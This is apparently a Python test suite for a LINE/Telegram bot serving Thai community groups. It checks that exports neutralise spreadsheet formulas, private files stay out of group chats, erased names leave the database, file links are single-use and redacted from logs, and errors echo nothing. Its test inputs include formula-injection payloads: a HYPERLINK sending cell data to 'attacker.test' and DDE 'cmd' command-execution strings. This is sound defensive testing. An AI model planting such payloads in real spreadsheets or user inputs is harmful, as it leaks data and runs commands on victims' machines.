"""Attacks on data (issue 14) against a real `sammachip serve` with the fake LINE and Bot API
servers: formula cells in every export, documents into a group chat, the erased person's name
in the database file, file links (single use, out of the access log), unsend from an account
no longer linked, echoing 400 bodies."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from datetime import datetime
from pathlib import Path
from zoneinfo import ZoneInfo

from openpyxl import load_workbook
from sqlalchemy import select

from bot.demo import EGG_GROUP, OFFICER_NAME
from bot.storage.database import create_engine, session_factory
from bot.storage.models import InboundEvent, Meeting, OccupationGroup, Person, Sale, WorkLog
from tests.reliability.harness import DASHBOARD_SECRET, ROOT, figures
from tests.security.attack import (
    FILE_LINK,
    LOGIN_LINK,
    count,
    give_account,
    join_code,
    logs,
    rows,
    scalar,
    served,
)
from tests.support.channel_stack import LINE_SECRET
from tests.support.fake_line import FakeLine, group_id, sign, user_id
from tests.support.fake_telegram import FakeTelegram

FORMULAS = (
    '=HYPERLINK("http://attacker.test/?d="&H3,"คลิกดูรายงาน")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "@SUM(1)",
    "-2+3+cmd|' /C calc'!A0",
)


DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")  # a negative amount is a number, not a formula


def cli(url: str, cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("LINE_", "TELEGRAM_"))}
    env.update(DATABASE_URL=url, DASHBOARD_SECRET=DASHBOARD_SECRET, PYTHONPATH=str(ROOT))
    return subprocess.run(
        [sys.executable, "-m", "bot", *args], cwd=cwd, capture_output=True, text=True,
        timeout=120, env=env,
    )  # fmt: skip


def formula_cells(workbook: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(workbook))
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def workbook_texts(workbook: bytes) -> set[str]:
    book = load_workbook(io.BytesIO(workbook))
    return {
        str(cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


async def test_no_export_holds_a_formula(
    db_url: str, fake_line: FakeLine, fake_telegram: FakeTelegram, tmp_path: Path
) -> None:
    """Formulas typed into names, meeting topics, visit notes and sale items, through chat
    (and one name that got into the database before the fix), then every export: the chat's
    ส่งออก (Telegram uploads the file), the dashboard's, `sammachip export` .xlsx and .csv."""
    chair, officer_tg, newcomer = user_id(), 880101, 880102
    await give_account(db_url, "สมศรี ดวนใหญ่", "line", chair)
    await give_account(db_url, OFFICER_NAME, "telegram", str(officer_tg))
    legacy = await scalar(db_url, select(Person.id).where(Person.name == "ประไพ ทองดี"))
    engine = create_engine(db_url)
    async with session_factory(engine)() as session:
        person = await session.get(Person, legacy)
        assert person is not None
        person.name = FORMULAS[1]  # stored before names were checked
        group = await session.scalar(
            select(OccupationGroup.id).where(OccupationGroup.name == EGG_GROUP)
        )
        today = datetime.now(ZoneInfo("Asia/Bangkok")).date()
        session.add(  # and a meeting whose topics are a formula, as typed
            Meeting(group_id=group, on_date=today, attendees=3, topics=FORMULAS[0],
                    decisions=FORMULAS[4], recorded_by=legacy)
        )  # fmt: skip
        await session.commit()
    await engine.dispose()
    async with served(db_url, fake_line, fake_telegram, tmp_path / "serve.log") as bot:
        refused = " ".join(await bot.line_says(chair, f"ชื่อ {FORMULAS[0]}"))
        for n, text in enumerate(FORMULAS):
            await bot.line_says(chair, f"ประชุม สมาชิกมา {n + 5} คน เรื่อง {text}")
            await bot.line_says(chair, f"ขาย{text} {n + 1} ชิ้น {10 * (n + 1)} บาท")
            await bot.tg_says(officer_tg, f"เยี่ยมกลุ่มไข่เค็ม {text} แนะนำ {text}")
        # A newcomer whose Telegram name is a formula: the name is not taken.
        await bot.tg_says(
            newcomer, f"/start {await join_code(db_url, EGG_GROUP)}", first_name=FORMULAS[3]
        )
        await bot.tg_says(newcomer, "ยินยอม", first_name=FORMULAS[3])
        await bot.tg_says(officer_tg, "ส่งออก")
        documents = [s for s in fake_telegram.sent if s.method == "sendDocument"]
        found = LOGIN_LINK.search(" ".join(await bot.tg_says(officer_tg, "แดชบอร์ด")))
        assert found
        token = found.group(1).split("token=")[1]
        await bot.http.post(
            "/dashboard/login", data={"token": token}, headers={"Origin": bot.server.base}
        )
        dashboard = await bot.http.get("/dashboard/export")
    out = tmp_path / "export.xlsx"
    assert cli(db_url, tmp_path, "export", "--month", _month(), "--out", str(out)).returncode == 0
    assert (
        cli(
            db_url, tmp_path, "export", "--month", _month(), "--out", str(tmp_path / "s.csv")
        ).returncode
        == 0
    )
    exports = {
        "chat": next(iter(documents[-1].files.values())),
        "dashboard": dashboard.content,
        "command line": out.read_bytes(),
    }
    fields = [
        f
        for row in csv.reader(io.StringIO((tmp_path / "s.csv").read_text("utf-8-sig")))
        for f in row
    ]
    names = await rows(db_url, select(Person.name))
    figures(
        "formula cells in every export",
        **{
            f"formula_cells_{k.replace(' ', '_')}": len(formula_cells(v))
            for k, v in exports.items()
        },
        csv_fields_starting_like_a_formula=sum(
            1 for f in fields if f.startswith(DANGEROUS) and not NUMBER.match(f)
        ),
        names_starting_like_a_formula=sum(1 for (n,) in names if n.startswith(DANGEROUS)),
    )
    assert "ไม่ขึ้นต้นด้วยเครื่องหมาย" in refused
    assert dashboard.status_code == 200 and len(documents) == 1
    for where, workbook in exports.items():
        assert formula_cells(workbook) == [], where
        assert FORMULAS[0] in workbook_texts(workbook), where  # kept as typed, as text
    assert [f for f in fields if f.startswith(DANGEROUS) and not NUMBER.match(f)] == []
    assert [n for (n,) in names if n.startswith(DANGEROUS)] == [FORMULAS[1]]  # only the old one


def _month() -> str:
    return datetime.now(ZoneInfo("Asia/Bangkok")).strftime("%Y-%m")


async def test_documents_never_go_into_a_group_chat(
    db_url: str, fake_line: FakeLine, fake_telegram: FakeTelegram, tmp_path: Path
) -> None:
    officer, member, room = user_id(), user_id(), group_id()
    await give_account(db_url, OFFICER_NAME, "line", officer)
    await give_account(db_url, "บุญมี ใจงาม", "line", member)
    officer_tg, tg_room = 880201, -1000880201
    asks = {
        "ส่งออก": (officer, "รายงานประจำเดือน"),
        "ข้อมูลของฉัน": (member, "ข้อมูลของคุณ"),
        "ครัวเรือนต้นแบบ": (officer, "ครัวเรือนต้นแบบ:"),
        "สรุป": (officer, "กลุ่มในอำเภอ"),  # the district card's heading
        "แดชบอร์ด": (officer, "token="),
        "ลบข้อมูลของฉัน": (member, "ต้องการลบข้อมูลส่วนตัว"),
    }
    async with served(db_url, fake_line, fake_telegram, tmp_path / "serve.log") as bot:
        await bot.line_says(officer, f"เข้ากลุ่ม {await join_code(db_url, EGG_GROUP)}", group=room)
        in_group = {
            text: " ".join(await bot.line_says(who, text, group=room))
            for text, (who, _) in asks.items()
        }
        await give_account(db_url, "รัตนา พัฒนกิจ", "telegram", str(officer_tg))
        tg_group = " ".join(await bot.tg_says(officer_tg, "ส่งออก", chat=tg_room))
    group_texts = " ".join(bot.line_texts(room))
    private = {who: " ".join(bot.line_texts(who)) for who in (officer, member)}
    documents = [(s.chat_id, s.method) for s in fake_telegram.sent if s.method == "sendDocument"]
    figures(
        "documents into a group chat",
        asked_in_group=len(asks) + 1,
        said_privately_in_group=sum(1 for t in [*in_group.values(), tg_group] if "แชตส่วนตัว" in t),
        private_content_in_group=sum(1 for _, part in asks.values() if part in group_texts),
        delivered_privately=sum(1 for who, part in asks.values() if part in private[who]),
        telegram_documents_to_group=sum(1 for chat, _ in documents if chat == str(tg_room)),
    )
    for text, (who, part) in asks.items():
        assert "แชตส่วนตัว" in in_group[text], text
        assert part not in group_texts, text
        assert part in private[who], text
    assert "/files/" not in group_texts and FILE_LINK.search(private[officer])
    assert "แชตส่วนตัว" in tg_group and documents == [(str(officer_tg), "sendDocument")]


async def test_the_erased_persons_name_is_nowhere_in_the_database_file(
    db_url: str, fake_line: FakeLine, fake_telegram: FakeTelegram, tmp_path: Path
) -> None:
    name, first, last, user = "สมหญิงลบแล้ว ทดลองดี", "สมหญิงลบแล้ว", "ทดลองดี", 880301
    room = -1000880301
    await give_account(db_url, "สมศรี ดวนใหญ่", "telegram", "880302")
    path = Path(db_url.split("///", 1)[1])
    async with served(db_url, fake_line, fake_telegram, tmp_path / "serve.log") as bot:
        await bot.tg_says(880302, f"/join {await join_code(db_url, EGG_GROUP)}", chat=room)
        await bot.tg_says(user, f"/start {await join_code(db_url, EGG_GROUP)}", first_name=first)
        await bot.tg_says(user, "ยินยอม", first_name=first)
        await bot.tg_says(user, f"ชื่อ {name}", first_name=first)
        await bot.tg_says(user, "ขายไข่เค็ม 12 ฟอง 60 บาท", first_name=first)
        await bot.tg_says(user, "ทำงาน 3 ชั่วโมง", chat=room, first_name=first)
        await bot.tg_says(880302, "สรุป", chat=room)  # the group's summary names her work
        await bot.tg_says(user, "ข้อมูลของฉัน", first_name=first)
        await bot.tg_says(user, "ลบข้อมูลของฉัน", first_name=first)
        done = " ".join(await bot.tg_says(user, "ยืนยันลบ", first_name=first))
        files = {p.name: p.read_bytes() for p in path.parent.glob(path.name + "*")}
    needles = {
        form
        for text in (name, first, last)
        for form in (text.encode(), json.dumps(text)[1:-1].encode(), text.encode("utf-16-le"))
    }
    found = {
        part: sorted(n.decode(errors="replace") for n in needles if n in raw)
        for part, raw in files.items()
    }
    refs = await rows(db_url, select(Sale.source_ref).where(Sale.source_ref.like(f"%{user}%")))
    work = await rows(
        db_url, select(WorkLog.source_ref).where(WorkLog.source_ref.like(f"%{user}%"))
    )
    events = await count(db_url, InboundEvent, InboundEvent.external_id.like(f"%:{user}:%"))
    figures(
        "the erased person's name in the SQLite files",
        files_searched=len(files),
        files_with_the_name=sum(1 for v in found.values() if v),
        source_refs_with_the_chat_id=len(refs) + len(work),
        delivery_ids_with_the_chat_id=events,
    )
    assert "เรียบร้อยแล้ว" in done
    assert {"channels.db", "channels.db-wal"} <= set(files)
    assert found == {part: [] for part in files}
    assert refs == [] and work == [] and events == 0
    assert await count(db_url, Sale, Sale.amount == 60) == 1  # the group's totals stay


async def test_file_links_are_single_use_and_their_keys_stay_out_of_the_log(
    db_url: str, fake_line: FakeLine, fake_telegram: FakeTelegram, tmp_path: Path
) -> None:
    officer = user_id()
    await give_account(db_url, OFFICER_NAME, "line", officer)
    async with served(db_url, fake_line, fake_telegram, tmp_path / "serve.log") as bot:
        link = FILE_LINK.search(" ".join(await bot.line_says(officer, "ส่งออก")))
        assert link
        path = f"/files/{link.group(1)}"
        preview = await bot.http.get(path)  # what a chat app's link preview does
        download = await bot.http.post(path)
        again = await bot.http.post(path)
        later = await bot.http.get(path)
    output = logs(tmp_path / "serve.log")
    figures(
        "file links",
        preview_status=preview.status_code,
        download_status=download.status_code,
        second_download_status=again.status_code,
        key_in_access_log=int(link.group(1) in output),
    )
    assert preview.status_code == 200 and "ดาวน์โหลด" in preview.text and "PK" not in preview.text
    assert download.status_code == 200 and download.content.startswith(b"PK")
    assert again.status_code == 410 and later.status_code == 410
    assert "/files/[redacted]" in output and link.group(1) not in output


async def test_unsend_from_an_account_no_longer_linked_withdraws_nothing(
    db_url: str, fake_line: FakeLine, fake_telegram: FakeTelegram, tmp_path: Path
) -> None:
    member = user_id()
    await give_account(db_url, "บุญมี ใจงาม", "line", member)
    async with served(db_url, fake_line, fake_telegram, tmp_path / "serve.log") as bot:
        await bot.line_says(member, "ขายไข่เค็ม 7 ฟอง 35 บาท", message_id="770001")
        done = cli(
            db_url, tmp_path, "account", "unlink", "--channel", "line", "--external-id", member
        )
        assert done.returncode == 0, done.stderr
        await bot.line_event(bot.events.unsend("770001", user=member))
    sale = await rows(
        db_url, select(Sale.withdrawn_at).where(Sale.source_ref == f"line:{member}:770001")
    )
    assert [s.withdrawn_at for s in sale] == [None]  # still counted


async def test_refused_webhooks_do_not_echo_details(
    db_url: str, fake_line: FakeLine, fake_telegram: FakeTelegram, tmp_path: Path
) -> None:
    body = b'{"destination": "U", "events": "not-a-list: secret message text"}'
    async with served(db_url, fake_line, fake_telegram, tmp_path / "serve.log") as bot:
        bad = await bot.http.post(
            "/webhooks/line", content=body,
            headers={"Content-Type": "application/json", "X-Line-Signature": sign(body, LINE_SECRET)},
        )  # fmt: skip
        unsigned = await bot.http.post("/webhooks/line", content=b"{}")
        anonymous = await bot.http.get("/dashboard/groups/99999999999999999999")
    assert (bad.status_code, bad.text) == (400, "bad request")  # no parser details echoed
    assert (unsigned.status_code, unsigned.text) == (400, "bad request")
    assert anonymous.status_code == 401  # not a 500, not a dropped connection
